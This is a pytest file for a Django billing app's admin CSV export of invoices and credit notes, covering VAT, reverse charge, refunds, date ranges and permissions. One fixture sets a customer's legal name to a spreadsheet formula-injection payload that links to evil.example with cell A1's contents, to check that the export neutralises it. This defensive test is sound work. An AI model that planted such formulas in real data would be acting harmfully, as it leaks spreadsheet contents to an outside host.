"""The accountant's CSV: invoices and credit notes of a date range.

Ireland's 23% applies to buyers without a country. Pack A: 10.00 net,
2.30 tax, 12.30 gross; 5.00 of it refunded: 500 / 1.23 = 406.5 -> 4.07 net
(half up) and 0.93 tax. Pack B goes to a German business with a VAT id:
reverse-charged, 20.00 net, no tax.
"""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
import time_machine
from django.urls import reverse

from billing.exports import invoice_export_rows
from billing.models import TaxRate
from billing.services.documents import save_billing_details
from billing.services.packs import purchase_pack
from billing.services.refunds import refund_charge
from tests.factories.accounts import StaffUserFactory, UserFactory
from tests.factories.billing import PackFactory, owner_of, personal_account

pytestmark = pytest.mark.django_db

EXPORT = reverse("admin:billing_invoice_export")
NOVEMBER = {"start": "2026-11-01", "end": "2026-11-30"}
EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def at(month: int, day: int, hour: int = 10, minute: int = 0) -> datetime:
    return datetime(2026, month, day, hour, minute, tzinfo=UTC)


def buy(account, price_cents: int, when: datetime, key: str):
    with time_machine.travel(when, tick=False):
        pack = PackFactory(lines={"storage": 10**9}, price_cents=price_cents)
        return purchase_pack(
            account=account, pack=pack, actor=owner_of(account), idempotency_key=key
        ).charge


@pytest.fixture
def november():
    TaxRate.objects.create(
        country="IE", rate_percent=Decimal(23), valid_from=date(2020, 1, 1)
    )
    with time_machine.travel(at(10, 1), tick=False):
        consumer = personal_account(name="Ann Consumer")
        business = personal_account(name="Bea Business")
        save_billing_details(
            account=consumer, actor=owner_of(consumer), legal_name=EVIL_NAME
        )
        save_billing_details(
            account=business,
            actor=owner_of(business),
            legal_name="Bea GmbH",
            country="DE",
            vat_id="DE123456789",
        )
    before = buy(consumer, 100, at(10, 31, 23, 59), "before")
    pack_a = buy(consumer, 1000, at(11, 5), "a")
    with time_machine.travel(at(11, 10), tick=False):
        refund_charge(charge=pack_a, actor=None, amount_cents=500)
    pack_b = buy(business, 2000, at(11, 20), "b")
    after = buy(business, 100, at(12, 1, 0), "after")
    return {
        "consumer": consumer,
        "business": business,
        "before": before,
        "a": pack_a,
        "b": pack_b,
        "after": after,
    }


def download(client, **params):
    response = client.get(EXPORT, params or NOVEMBER)
    return response, list(csv.reader(io.StringIO(response.content.decode())))


@pytest.fixture
def accountant(client):
    client.force_login(StaffUserFactory(perms=["billing.view_invoice"]))
    return client


def test_the_month_downloads_one_row_per_document_in_issue_order(
    accountant, november, django_assert_max_num_queries
):
    with django_assert_max_num_queries(8):  # session and user, then 4 reads
        response, rows = download(accountant)

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        'attachment; filename="invoices-2026-11-01-to-2026-11-30.csv"'
    )
    header, *body = rows
    assert header == [
        "Number",
        "Type",
        "Issue date (UTC)",
        "Account",
        "Buyer name",
        "Buyer country",
        "Buyer VAT id",
        "Reverse charge",
        "Net (currency units)",
        "Tax rate (%)",
        "Tax (currency units)",
        "Gross (currency units)",
        "Currency",
        "Status",
        "Credits invoice",
    ]
    invoice_a = november["a"].invoice.number
    invoice_b = november["b"].invoice.number
    credit_a = november["a"].refunds.get().credit_note.number
    assert body == [
        [
            invoice_a,
            "invoice",
            "2026-11-05",
            "Ann Consumer",
            "'" + EVIL_NAME,  # neutralised: a spreadsheet shows it as text
            "",
            "",
            "no",
            "10.00",
            "23.00",
            "2.30",
            "12.30",
            "USD",
            "partly refunded",
            "",
        ],
        [
            credit_a,
            "credit note",
            "2026-11-10",
            "Ann Consumer",
            "'" + EVIL_NAME,
            "",
            "",
            "no",
            "-4.07",  # a number: negative, never neutralised
            "23.00",
            "-0.93",
            "-5.00",
            "USD",
            "refund",
            invoice_a,
        ],
        [
            invoice_b,
            "invoice",
            "2026-11-20",
            "Bea Business",
            "Bea GmbH",
            "DE",
            "DE123456789",
            "yes",
            "20.00",
            "0.00",
            "0.00",
            "20.00",
            "USD",
            "paid",
            "",
        ],
    ]


def test_the_range_takes_both_days_whole(accountant, november):
    _, rows = download(accountant, start="2026-10-31", end="2026-10-31")
    assert [row[0] for row in rows[1:]] == [november["before"].invoice.number]

    _, rows = download(accountant, start="2026-12-01", end="2026-12-01")
    assert [row[0] for row in rows[1:]] == [november["after"].invoice.number]


def test_amounts_are_numbers_for_the_spreadsheet(november):
    rows = invoice_export_rows(start=date(2026, 11, 1), end=date(2026, 11, 30))

    note = rows[1]
    assert (note.net, note.tax, note.gross) == (
        Decimal("-4.07"),
        Decimal("-0.93"),
        Decimal("-5.00"),
    )
    assert sum(row.gross for row in rows) == Decimal("27.30")  # 12.30 - 5 + 20


def test_without_dates_the_form_offers_last_month(accountant):
    with time_machine.travel(at(12, 3), tick=False):
        response = accountant.get(EXPORT)

    assert response.status_code == 200
    html = response.content.decode()
    assert 'name="start"' in html and 'value="2026-11-01"' in html
    assert 'name="end"' in html and 'value="2026-11-30"' in html


def test_a_range_ending_before_it_starts_is_refused(accountant):
    response = accountant.get(EXPORT, {"start": "2026-11-30", "end": "2026-11-01"})

    assert response.status_code == 400
    assert "The last day comes on or after the first." in response.content.decode()
    assert not response.get("Content-Disposition")


def test_staff_without_the_view_invoice_permission_are_refused(client, november):
    client.force_login(StaffUserFactory(perms=["billing.view_statement"]))

    response = client.get(EXPORT, NOVEMBER)

    assert response.status_code == 403
    assert not response.get("Content-Disposition")


def test_a_customer_is_sent_to_the_admin_login(client, november):
    client.force_login(UserFactory())

    response = client.get(EXPORT, NOVEMBER)

    assert response.status_code == 302
    assert response["Location"].startswith(reverse("admin:login"))


def test_the_invoice_list_links_to_the_export(accountant):
    response = accountant.get(reverse("admin:billing_invoice_changelist"))

    assert response.status_code == 200
    assert f'href="{EXPORT}"' in response.content.decode()
